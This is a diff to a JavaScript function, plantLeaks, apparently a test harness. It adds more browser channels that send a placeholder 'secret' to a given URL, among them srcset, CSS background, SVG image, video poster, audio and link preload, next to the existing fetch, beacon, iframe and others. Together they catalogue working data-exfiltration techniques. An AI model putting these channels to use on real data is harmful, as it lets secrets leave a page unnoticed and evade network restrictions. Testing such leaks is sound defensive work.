@@ -139,6 +139,20 @@ function plantLeaks(leak) {
   const text = 'secret';
   const attempts = {
     image: () => { new Image().src = `${leak}/image?${text}`; },
+    srcset: () => { new Image().srcset = `${leak}/srcset?${text} 1x`; },
+    background: () => {
+      const box = document.createElement('div');
+      Object.assign(box.style, { height: '1px', background: `url("${leak}/background?${text}")` });
+      document.body.append(box);
+    },
+    drawing: () => {
+      const [svg, image] = ['svg', 'image'].map((name) => document.createElementNS('http://www.w3.org/2000/svg', name));
+      image.setAttribute('href', `${leak}/drawing?${text}`);
+      svg.append(image);
+      document.body.append(svg);
+    },
+    poster: () => { const video = document.createElement('video'); video.poster = `${leak}/poster?${text}`; document.body.append(video); },
+    audio: () => { new Audio(`${leak}/audio?${text}`).load(); },
     fetch: () => fetch(`${leak}/fetch`, { mode: 'no-cors', method: 'POST', body: text }),
     beacon: () => navigator.sendBeacon(`${leak}/beacon`, text),
     xhr: () => { const request = new XMLHttpRequest(); request.open('POST', `${leak}/xhr`); request.send(text); },
@@ -146,6 +160,11 @@ function plantLeaks(leak) {
     events: () => new EventSource(`${leak}/events`),
     style: () => { const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = `${leak}/style?${text}`; document.head.append(link); },
     prefetch: () => { const link = document.createElement('link'); link.rel = 'prefetch'; link.href = `${leak}/prefetch?${text}`; document.head.append(link); },
+    preload: () => {
+      const link = document.createElement('link');
+      Object.assign(link, { rel: 'preload', as: 'image', href: `${leak}/preload?${text}` });
+      document.head.append(link);
+    },
     font: () => new FontFace('leak', `url(${leak}/font?${text})`).load().catch(() => {}),
     video: () => { const video = document.createElement('video'); video.src = `${leak}/video?${text}`; document.body.append(video); },
     frame: () => { const frame = document.createElement('iframe'); frame.src = `${leak}/frame?${text}`; document.body.append(frame); },
